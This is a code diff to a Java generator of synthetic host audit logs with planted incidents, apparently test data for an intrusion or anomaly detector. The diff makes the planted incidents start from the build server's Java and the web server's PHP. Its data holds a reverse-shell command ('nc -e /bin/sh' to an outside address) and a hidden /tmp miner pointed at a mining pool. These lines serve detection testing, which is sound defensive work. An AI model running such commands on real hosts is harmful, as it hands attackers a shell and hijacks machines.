@@ -24,12 +24,14 @@ import java.util.Random;
  *       same count at noon (not);</li>
  *   <li>two ssh/scp storms on the two bastions on one day, the second larger (both critical);</li>
  *   <li>a reverse shell ({@code nc -e /bin/sh}) run by the build server's service account (critical), though new
- *       programs often appear there;</li>
- *   <li>a miner from a hidden directory of /tmp run by the web server's account at night (critical);</li>
+ *       programs often appear there, started by the build server's Java (its parent pid is Java's latest run);</li>
+ *   <li>a miner from a hidden directory of /tmp run by the web server's account at night (critical), started by the
+ *       web server's PHP;</li>
  *   <li>an administrator's first run of a system tool from /usr/bin (not critical);</li>
  *   <li>a package upgrade on every host within the hour (not even minor).</li>
  * </ul>
- * The same seed writes the same bytes; other seeds move the noise, not the incidents.
+ * Other processes' parent pids are random, near their own pid. The same seed writes the same bytes; other seeds move
+ * the noise, not the incidents.
  */
 public final class IncidentFleet {
     private static final long HOUR = 3_600_000L;
@@ -231,11 +233,15 @@ public final class IncidentFleet {
             }
             incidents.add(new Incident(Kind.STORM, bastions[b], hour, null, true));
         }
+        // the reverse shell is started by the build server's Java service (its latest run before)
+        int java = RawEventWriter.lastPid(records, "build-01", "/usr/bin/java", REVERSE_SHELL_AT).orElseThrow();
         records.add(exec("build-01", REVERSE_SHELL_AT, serial, r, "110", "/usr/bin/nc",
-                List.of("nc", "-e", "/bin/sh", "203.0.113.7", "4444")));
+                List.of("nc", "-e", "/bin/sh", "203.0.113.7", "4444"), java));
         incidents.add(new Incident(Kind.REVERSE_SHELL, "build-01", hourOf(REVERSE_SHELL_AT), "/usr/bin/nc", true));
+        // the miner is started by the web server's PHP (its latest run before)
+        int php = RawEventWriter.lastPid(records, "web-02", "/usr/bin/php8.2", MINER_AT).orElseThrow();
         records.add(exec("web-02", MINER_AT, serial, r, "33", "/tmp/.cache/xxprimef",
-                List.of("/tmp/.cache/xxprimef", "-o", "pool.example.net:3333")));
+                List.of("/tmp/.cache/xxprimef", "-o", "pool.example.net:3333"), php));
         incidents.add(new Incident(Kind.MINER, "web-02", hourOf(MINER_AT), "/tmp/.cache/xxprimef", true));
         records.add(exec("web-03", ADMIN_TOOL_AT, serial, r, "1000", "/usr/bin/strace", List.of("strace", "-p", "4242")));
         incidents.add(new Incident(Kind.ADMIN_TOOL, "web-03", hourOf(ADMIN_TOOL_AT), "/usr/bin/strace", false));
@@ -261,8 +267,16 @@ public final class IncidentFleet {
 
     private static List<String> exec(String host, long time, long[] serial, Random r, String uid, String exe,
                                      List<String> args) {
+        return exec(host, time, serial, r, uid, exe, args, -1);
+    }
+
+    /** An execution whose parent is {@code ppid} (a random one when negative; the same draws either way). */
+    private static List<String> exec(String host, long time, long[] serial, Random r, String uid, String exe,
+                                     List<String> args, int ppid) {
         int pid = 2000 + r.nextInt(60_000);
-        return RawEventWriter.execution(host, time, ++serial[0], pid, pid - 1 - r.nextInt(30), uid, exe, "/", "exec", args);
+        int randomParent = pid - 1 - r.nextInt(30);
+        return RawEventWriter.execution(host, time, ++serial[0], pid, ppid < 0 ? randomParent : ppid, uid, exe, "/",
+                "exec", args);
     }
 
     private static long timeOf(List<String> event) {
